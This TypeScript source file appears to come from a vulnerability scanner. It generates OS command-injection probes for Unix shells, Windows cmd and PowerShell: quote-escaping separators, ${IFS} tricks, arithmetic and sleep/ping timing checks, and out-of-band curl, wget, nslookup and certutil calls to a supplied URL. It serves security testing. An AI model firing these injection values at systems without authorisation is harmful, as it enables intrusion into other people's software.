// Values that make a shell compute, wait or call, for each place in which a command line can hold them.
import type { Delay } from "./delay.ts";
import { addends } from "./numbers.ts";
import type { Formula } from "./computed.ts";
import type { Numbers } from "./numbers.ts";
import type { Call } from "./out-of-band-proof.ts";
import type { OutOfBandName } from "../out-of-band.ts";

/** A place and how a command is put there. */
interface Place { id: string; wrap(command: string, original: string): string }

/**
 * One value for three quotings: unquoted, the first command runs and the rest is a comment; inside '...' the first quote ends the
 * string and the second command runs; inside "..." the third. POSIX.1-2024 XCU 2.2 (quoting), 2.3 rule 9 (comments).
 */
const everyQuoting = (separator: string, command: string, original: string): string => `${original}${separator}${command} #'${separator}${command} #"${separator}${command} #`;

const unixPlaces: readonly Place[] = [
  { id: "semicolon", wrap: (command, original) => everyQuoting(";", command, original) },
  { id: "pipe", wrap: (command, original) => everyQuoting("|", command, original) },
  { id: "newline", wrap: (command, original) => everyQuoting("\n", command, original) },
  { id: "ampersand", wrap: (command, original) => everyQuoting("&", command, original) },
  // Inside "..." and unquoted, without any separator.
  { id: "substitution", wrap: (command, original) => `${original}$(${command})` },
  { id: "backtick", wrap: (command, original) => `${original}\`${command}\`` },
  // For what puts the value before something that must not be commented out, or takes # away.
  { id: "semicolon-open", wrap: (command, original) => `${original};${command};` },
  // Nothing of the original: an empty value, then the command.
  { id: "command", wrap: (command) => command },
];

// ${IFS} stands where blanks are taken away or split at; a command without any blank in it.
const spaceless = (text: string): string => text.replaceAll(" ", "${IFS}");
const multiplied = ({ left, right }: Numbers): string => `echo $((${left}*${right}))`;
const summed = (numbers: Numbers): string => { const [one, two] = addends(numbers); return `expr ${one} + ${two}`; };

const shell = "A Unix shell";
const unix = (id: string, wrap: Place["wrap"], command = multiplied): Formula => ({
  technique: `unix:${id}`, by: shell, result: ({ product }) => product,
  write: (numbers, original) => wrap(command(numbers), original),
  // "echo ((a*b))" without the dollar: a shell has nothing to compute there, something that multiplies whatever it sees has.
  control: (numbers, original) => wrap(command(numbers).replace("$((", "(("), original),
});
const place = (id: string): Place => unixPlaces.find((one) => one.id === id) ?? { id, wrap: (command) => command };
const whole: Formula = {
  technique: "unix:program", by: "A program that the value names", result: ({ sum }) => sum,
  write: (numbers) => summed(numbers), control: (numbers) => summed(numbers).replace("expr ", "expt "),
};

const setA = ({ left, right }: Numbers): string => `set /a ${left}*${right}`;
const windows = (id: string, write: (command: string, original: string) => string): Formula => ({
  technique: `windows:${id}`, by: "The Windows command interpreter", result: ({ product }) => product,
  write: (numbers, original) => write(setA(numbers), original), control: (numbers, original) => write(setA(numbers).replace("set /a", "set /"), original),
});
const powershell: Formula = {
  technique: "powershell", by: "PowerShell", result: ({ product }) => product,
  write: ({ left, right }, original) => `${original};Write-Output(${left}*${right})#';Write-Output(${left}*${right})#";Write-Output(${left}*${right})#`,
  control: ({ left, right }, original) => `${original};Write-Outpu(${left}*${right})#';Write-Outpu(${left}*${right})#`,
};

/** In the order of what is most often open. */
export const shellFormulas: readonly Formula[] = [
  ...["semicolon", "pipe", "newline", "substitution"].map((id) => unix(id, place(id).wrap)),
  unix("ampersand", place("ampersand").wrap),
  windows("ampersand", (command, original) => `${original}&${command}&"&${command}&`),
  unix("backtick", place("backtick").wrap),
  unix("semicolon-spaceless", (command, original) => `${original};${spaceless(command)};`),
  unix("pipe-spaceless", (command, original) => `${original}|${spaceless(command)}`),
  unix("quoted-spaceless", (command, original) => `${original}';${spaceless(command)};'";${spaceless(command)};"`),
  unix("command", place("command").wrap),
  whole,
  windows("pipe", (command, original) => `${original}|${command}`),
  powershell,
];

const sleepUnix = (seconds: number): string => `sleep ${seconds}`;
// ping waits a second between two packets: n + 1 of them take n seconds, where no `timeout` may read a console.
const pingWindows = (seconds: number): string => `ping -n ${seconds + 1} 127.0.0.1`;

/** Waiting, when nothing of the output comes back. */
export const shellDelays: readonly Delay[] = [
  ...["semicolon", "pipe", "newline", "substitution", "ampersand-and"].map((id): Delay => ({ technique: `unix:${id}`, by: shell, write: (seconds, original) => (id === "ampersand-and" ? everyQuoting("&&", sleepUnix(seconds), original) : place(id).wrap(sleepUnix(seconds), original)) })),
  { technique: "unix:spaceless", by: shell, write: (seconds, original) => `${original};${spaceless(sleepUnix(seconds))};` },
  { technique: "unix:command", by: shell, write: (seconds) => sleepUnix(seconds) },
  { technique: "windows:ampersand", by: "The Windows command interpreter", write: (seconds, original) => `${original}&${pingWindows(seconds)}&"&${pingWindows(seconds)}&` },
];

// Whichever program is there: a name server query, curl, wget.
const calling = ({ url, host }: OutOfBandName): string => `curl -s ${url}||wget -q -O- ${url}${host === undefined ? "" : `||nslookup ${host}`}`;
export const shellCalls: readonly Call[] = [
  { technique: "unix:semicolon", by: shell, write: (name, original) => everyQuoting(";", calling(name), original) },
  { technique: "unix:substitution", by: shell, write: (name, original) => place("substitution").wrap(calling(name), original) },
  { technique: "unix:newline", by: shell, write: (name, original) => everyQuoting("\n", calling(name), original) },
  { technique: "windows:ampersand", by: "The Windows command interpreter", write: ({ url, host }, original) => `${original}&certutil -urlcache -f ${url} nul&${host === undefined ? "" : `nslookup ${host}&`}` },
];
